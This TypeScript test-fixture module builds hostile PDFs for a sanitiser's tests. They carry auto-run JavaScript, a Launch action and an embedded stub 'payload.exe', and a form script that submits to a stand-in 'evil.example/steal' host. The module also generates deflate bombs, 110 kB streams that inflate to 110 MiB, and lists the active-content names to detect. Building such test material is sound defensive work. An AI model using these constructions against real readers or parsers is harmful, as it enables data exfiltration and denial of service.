// Hostile PDFs for the tests of the PDF sanitiser (decision 0221), built with pdf-lib and by hand: active
// content of every kind a reader may run or open, and streams that inflate far past what they weigh.
import { constants, deflateSync } from 'node:zlib';
import { PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { rawPdf } from './test-documents.js';

/** What must not be in a sanitised copy (as bytes: a copy is written without object streams). */
export const ACTIVE_CONTENT_NAMES = [
  '/JavaScript',
  '/JS',
  '/OpenAction',
  '/Launch',
  '/EmbeddedFile',
  '/AA',
  '/URI',
  '/AcroForm',
  '/XFA',
] as const;

/** the names of ACTIVE_CONTENT_NAMES found in `bytes` */
export function activeContentIn(bytes: Uint8Array): string[] {
  const text = Buffer.from(bytes).toString('latin1');
  return ACTIVE_CONTENT_NAMES.filter((found) => new RegExp(`${found.replace('/', '\\/')}(?![A-Za-z0-9])`).test(text));
}

/**
 * A certificate of `pages` pages that carries everything a reader may act on: an /OpenAction JavaScript, a
 * page /AA /Launch of an .exe, an embedded .exe (EmbeddedFiles), a document-level JavaScript name tree, an
 * AcroForm with XFA and a filled-in text field (whose appearance says "Dr. Vet"), a URI link annotation,
 * and an action hidden in a resource dictionary. Saved with object streams (pdf-lib's default), as most
 * producers write them today.
 */
export async function activePdf(pages = 2): Promise<Buffer> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  const { context } = document;
  const script = (js: string) => context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(js) });
  for (let index = 1; index <= pages; index++) {
    const page = document.addPage([612, 792]);
    page.drawText(`Rabies vaccination certificate, page ${index} of ${pages}`, { x: 72, y: 700, size: 18, font });
  }
  const first = document.getPage(0);
  const launch = context.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('payload.exe'), NewWindow: true });
  first.node.set(PDFName.of('AA'), context.obj({ O: launch, C: script('app.alert("page closed")') }));

  const exe = context.stream(Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(60)]), {
    Type: 'EmbeddedFile',
    Subtype: 'application#2Fx-msdownload',
  });
  const fileSpec = context.obj({
    Type: 'Filespec',
    F: PDFString.of('payload.exe'),
    UF: PDFHexString.fromText('payload.exe'),
    EF: { F: context.register(exe) },
  });
  const fileSpecRef = context.register(fileSpec);

  // a filled-in field: its appearance is what a reader shows, and what the copy must keep
  const appearance = context.register(
    context.stream('/Tx BMC BT /Helv 12 Tf 2 6 Td (Dr. Vet) Tj ET EMC', {
      Type: 'XObject',
      Subtype: 'Form',
      BBox: [0, 0, 200, 20],
      Resources: { Font: { Helv: font.ref } },
    }),
  );
  const widget = context.register(
    context.obj({
      Type: 'Annot',
      Subtype: 'Widget',
      FT: 'Tx',
      T: PDFString.of('veterinarian'),
      V: PDFString.of('Dr. Vet'),
      Rect: [72, 600, 272, 620],
      AP: { N: appearance },
      P: first.ref,
      A: script('this.submitForm("https://evil.example/steal")'),
      AA: { K: script('app.alert("keystroke")') },
    }),
  );
  const link = context.register(
    context.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [72, 500, 272, 520],
      A: { S: 'URI', URI: PDFString.of('https://evil.example/') },
    }),
  );
  first.node.set(PDFName.of('Annots'), context.obj([widget, link]));

  // an action tucked into the page's resources, where no reader looks for one
  first.node
    .Resources()
    ?.set(
      PDFName.of('Properties'),
      context.obj({ MC0: { Type: 'OCG', Name: PDFString.of('layer'), A: script('app.alert("resource")') } }),
    );

  const xfa = context.register(context.stream('<xdp:xdp><script>app.alert("xfa")</script></xdp:xdp>'));
  const { catalog } = document;
  catalog.set(PDFName.of('OpenAction'), script('app.launchURL("https://evil.example/", true)'));
  catalog.set(
    PDFName.of('AcroForm'),
    context.obj({ Fields: [widget], XFA: xfa, NeedAppearances: false, DA: PDFString.of('/Helv 0 Tf 0 g') }),
  );
  catalog.set(
    PDFName.of('Names'),
    context.obj({
      EmbeddedFiles: { Names: [PDFString.of('payload.exe'), fileSpecRef] },
      JavaScript: { Names: [PDFString.of('init'), context.register(script('app.alert("names")'))] },
    }),
  );
  catalog.set(PDFName.of('AF'), context.obj([fileSpecRef]));
  return Buffer.from(await document.save());
}

/**
 * zlib data of `mebibytes` MiB of zeros, ~1 kB a MiB (1 GiB in ~1 MB, deflate's best ratio), made without
 * deflating it all: one MiB deflated after a full flush refers to nothing before it, so it is repeated, then
 * an empty final block and the Adler-32 of n zeros (a = 1, b = n mod 65521). Any zlib reader inflates it.
 */
export function deflatedZeros(mebibytes: number): Buffer {
  const mebibyte = Buffer.alloc(1024 * 1024);
  const header = deflateSync(Buffer.alloc(0)).subarray(0, 2);
  // the piece: what deflateSync writes for one MiB after a full flush, without its header and final block
  const whole = deflateSync(mebibyte, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const piece = whole.subarray(2);
  const size = mebibytes * 1024 * 1024;
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((size % 65521) << 16) | 1) >>> 0);
  return Buffer.concat([header, ...Array.from({ length: mebibytes }, () => piece), Buffer.from([0x03, 0x00]), adler]);
}

/** A stream object `number` with the given dictionary entries and data. */
export function streamObject(number: number, entries: string, data: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`${number} 0 obj\n<< ${entries} /Length ${data.length} >>\nstream\n`, 'latin1'),
    data,
    Buffer.from('\nendstream\nendobj\n', 'latin1'),
  ]);
}

/**
 * A one-page PDF whose page content is object 4: `content` (entries such as `/Filter /FlateDecode`), with
 * `resources` (a dictionary's inside, such as `/XObject << /Im0 5 0 R >>`) and `extra` objects from 5 on.
 */
export function pdfWithContent(entries: string, content: Buffer, extra: Buffer[] = [], resources = ''): Buffer {
  return rawPdf([
    Buffer.from('1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n'),
    Buffer.from('2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n'),
    Buffer.from(
      `3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << ${resources} >> /Contents 4 0 R >>\nendobj\n`,
    ),
    streamObject(4, entries, content),
    ...extra,
  ]);
}

/** A "deflate bomb": a page whose content stream of ~110 kB inflates to `mebibytes` MiB (110 by default). */
export function contentBombPdf(mebibytes = 110): Buffer {
  return pdfWithContent('/Filter /FlateDecode', deflatedZeros(mebibytes));
}

/** A page content of `size` bytes deflated twice: each layer alone is small, the second inflates to `size`. */
export function doubleFlatePdf(size: number): Buffer {
  const twice = deflateSync(deflateSync(Buffer.alloc(size, 0x20), { level: 9 }), { level: 9 });
  return pdfWithContent('/Filter [/FlateDecode /FlateDecode]', twice);
}
